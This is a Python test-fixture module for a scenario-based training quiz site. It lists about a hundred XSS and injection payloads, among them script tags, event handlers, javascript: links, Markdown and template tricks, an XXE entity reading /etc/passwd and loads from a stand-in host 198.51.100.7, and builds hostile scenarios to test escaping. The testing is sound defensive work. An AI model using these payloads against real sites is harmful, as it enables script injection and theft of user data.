"""Text that tries to run script, to break out of its place, or to undo the page; and scenarios that hold it everywhere.

Every payload calls alert, or asks 198.51.100.7 for something, wherever it manages to run.
"""

from __future__ import annotations

from scenario_quiz.registers.loading import Registers
from scenario_quiz.registers.models import Idea, Law, Listed, Misconception, Problem, Route, Source, Term
from scenario_quiz.scenarios.model import Scenario
from scenario_quiz.scenarios.set_model import ScenarioSet

# What is written; or what is written and what a reader then sees, where light Markdown takes marks away.
PAYLOADS: tuple[str | tuple[str, str], ...] = (
    # Raw HTML
    "<script>alert(1)</script>",
    "<ScRiPt src=//198.51.100.7/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://198.51.100.7/i.png>",
    "<svg onload=alert(1)><desc>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>tap</text></a></svg>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>tap</maction></math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>tap</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=http://198.51.100.7/a.ogg autoplay onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>tap</option></select>",
    "<form action=javascript:alert(1)><button>tap</button></form>",
    "<button form=x formaction=javascript:alert(1)>tap</button>",
    "<marquee onstart=alert(1)>tap</marquee>",
    "<p style=animation:x onanimationstart=alert(1)>tap</p>",
    "<div style='background:url(http://198.51.100.7/b.png)'>tap</div>",
    "<style>@import 'http://198.51.100.7/c.css';</style>",
    "<link rel=stylesheet href=http://198.51.100.7/c.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=http://198.51.100.7/>",
    "<a href='javascript:alert(1)' onmouseover=alert(1)>tap</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<portal src=http://198.51.100.7/>",
    "<x contenteditable onblur=alert(1)>tap</x>",
    "<img/src='x'/onerror='alert(1)'/>",
    "<img src=x\tonerror\n=\nalert(1)>",
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1)",
    "</div></section></details><img src=x onerror=alert(1)>",
    "</summary></p></fieldset></form><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style><script>alert(1)</script>",
    # Out of an attribute
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    'x" data-words=\'{"check":"<img src=x onerror=alert(1)>"}\' data-scenario="x',
    # Comments, CDATA, declarations
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- local:front-door --><!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    # Links and pictures in Markdown
    "[tap](javascript:alert(1))",
    "[tap](<java\tscript:alert(1)>)",
    "[tap](JaVaScRiPt&#58;alert(1))",
    "[tap](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[tap](vbscript:alert(1) "x" onclick=alert(1))',
    '![x](http://198.51.100.7/i.png "x" onerror=alert(1))',
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    "<http://198.51.100.7/>",
    "[tap][x]\n\n[x]: javascript:alert(1)",
    # What Markdown's extensions would take up
    "tap{: onmouseover=alert(1) }",
    "tap {#situation onclick=alert(1)}",
    "{: .sq-option onclick=alert(1) data-search-exclude=no }",
    "# tap {onclick=alert(1)}",
    "``` {.python onclick=alert(1)}\nalert(1)\n```",
    "~~~html\n<script>alert(1)</script>\n~~~",
    "`<script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>``",
    "<div markdown onclick=alert(1)>tap</div>",
    '!!! danger "<img src=x onerror=alert(1)>"\n\n    tap',
    "???+ note\n\n    <script>alert(1)</script>",
    "|<script>alert(1)</script>|x|\n|--|--|\n|x|<img src=x onerror=alert(1)>|",
    "$$<img src=x onerror=alert(1)>$$ :smile: ==x== ^^x^^",
    '--8<-- "mkdocs.yml"',
    '<div data-block="0"></div>',
    "---\ntitle: x\ntemplate: <script>alert(1)</script>\n---",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    # Marks that light Markdown knows
    ("*<img src=x onerror=alert(1)>*", "<img src=x onerror=alert(1)>"),
    ('**<script>alert(1)</script>** and *"onclick=alert(1)*', '<script>alert(1)</script> and "onclick=alert(1)'),
    ("\\<img src=x onerror=alert(1)\\>", "\\<img src=x onerror=alert(1)>"),
    ("<im*g src=x onerror=aler*t(1)>", "<img src=x onerror=alert(1)>"),
    # Templates and patterns
    "{{ 7*7 }}{% include 'mkdocs.yml' %}{# x #}",
    "${alert(1)}`${alert(1)}`",
    "{text}{n}{0}{title.__class__} %s %(x)s $& $1 g<0>",
    "'-alert(1)-'",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    'javascript:alert(1)//";alert(1);//',
    # Unicode
    "＜script＞alert(1)＜/script＞",
    "‹img src=x onerror=alert(1)›",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<scr\u200bipt>alert(1)</scr\u00adipt>",
    "<\u0131mg src=x onerror=alert(1)>",
    "\U0001f469\u200d\U0001f467 <img src=x onerror=alert(1)> \u2028 alert(1)",
    ("\u0002wzxhzdk:0\u0003<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("klzzwxh:0000 \u0002klzzwxh:0001\u0003 <img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
)


def written(number: int) -> str:
    payload = PAYLOADS[number]
    return payload if isinstance(payload, str) else payload[0]


def shown(number: int) -> str:
    """What a reader must see of a payload."""
    payload = PAYLOADS[number]
    return payload if isinstance(payload, str) else payload[1]


def hostile_scenario(number: int) -> Scenario:
    """A scenario with one payload in every field that an author writes. The checks would refuse many of them."""
    text = written(number)
    choice = {"why": text, "consequence": text, "would_change": text}
    common = {"ask": text, "explain": text, "practises": ["child-first"], "cite": ["golden-rules#child-first"]}
    marked = {"text": text, "correct": False, "problem": "causes-delay", **choice}
    scenario = Scenario.model_validate(
        {
            "schema": "1",
            "title": text,
            "summary": text,
            "status": "published",
            "basis": "invented",
            "nations": ["england"],
            "audience": ["education"],
            "touches": [],
            "level": "core",
            "minutes": 1,
            "reviewed": {"on": "2026-11-22", "by": text},
            "check_after": "2027-05-22",
            "retired_questions": [{"id": "gone", "why": text}],
            "setting": text,
            "figure": {"file": "door.svg", "alt": text, "caption": text},
            "questions": [
                {
                    "id": "judge",
                    "kind": "judgement",
                    "scene": text,
                    "options": {
                        "a": {
                            "text": text,
                            "verdict": "unsafe",
                            "problem": "causes-delay",
                            "next": "the-end",
                            **choice,
                        },
                        "b": {"text": text, "verdict": "best", "shares": "part", "next": "pick", **choice},
                    },
                    **common,
                },
                {"id": "pick", "kind": "single", "options": {"a": marked, "b": {**marked, "correct": True}}, **common},
                {
                    "id": "tick",
                    "kind": "multiple",
                    "options": {"a": marked, "b": {**marked, "correct": True}},
                    **common,
                },
                {
                    "id": "sort",
                    "kind": "order",
                    "options": {"a": {"text": text, "why": text}, "b": {"text": text, "why": text}},
                    "key": ["b", "a"],
                    "next": "note",
                    **common,
                },
                {"id": "note", "kind": "reflect", "model": text, "checklist": [text], **common},
            ],
            "outcomes": [{"id": "the-end", "title": text, "text": text, "cite": ["golden-rules#child-first"]}],
            "trainer": {"prompts": [text], "notes": text},
        }
    )
    return scenario.model_copy(update={"id": f"hostile-{number:03}"})


def hostile_registers(number: int) -> Registers:
    """Registers with one payload in every text of every entry. The words of the glossary are found on pages."""
    text = written(number)
    idea = {"name": text, "says": text, "place": "golden-rules#child-first"}
    source = {"title": text, "short": text, "publisher": text, "dated": text, "seen": text, "note": text}
    law = {"name": text, "binds": text, "says": text, "status_note": text, "check": text, "owner": text}
    dates = {"as_of": "2026-11-22", "check_after": "2027-05-22", "sources": ["guide"], "place": "golden-rules"}
    term = {"term": "welfare", "also": [text], "means": text, "typed_as": [text], "say_instead": text}
    return Registers(
        ideas={"child-first": Idea.model_validate(idea)},
        sources={
            "guide": Source.model_validate({**source, "status": "superseded", "superseded_by": "newer"}),
            "newer": Source.model_validate({**source, "status": "reported"}),
        },
        misconceptions={
            "consent-first": Misconception.model_validate(
                {"belief": text, "truth": text, "place": "golden-rules#child-first", "typed_as": [text]}
            )
        },
        problems={"causes-delay": Problem.model_validate({"shown": text, "verdicts": ["risky", "unsafe", "wrong"]})},
        law={"a-duty": Law.model_validate({**law, **dates, "kind": "duty", "status": "uncertain"})},
        lists={
            name: {id_: Listed.model_validate({"name": text})}
            for name, id_ in (("audiences", "education"), ("nations", "england"), ("law-kinds", "duty"))
        }
        | {"touches": {}},
        routes={
            "a-desk": Route.model_validate({"name": text, "placeholder": text, "about": text, "urgent": "true"}),
        },
        glossary={
            "welfare": Term.model_validate(term),
            "other": Term.model_validate({**term, "term": text, "abbreviation": text, "place": "golden-rules"}),
        },
    )


def hostile_set(number: int) -> ScenarioSet:
    """A set of the hostile scenario, with the payload in every text."""
    text = written(number)
    given = {"schema": "1", "title": text, "summary": text, "status": "published", "intro": text}
    return ScenarioSet.model_validate({**given, "scenarios": [f"hostile-{number:03}"]}).model_copy(
        update={"id": f"hostile-set-{number:03}"}
    )
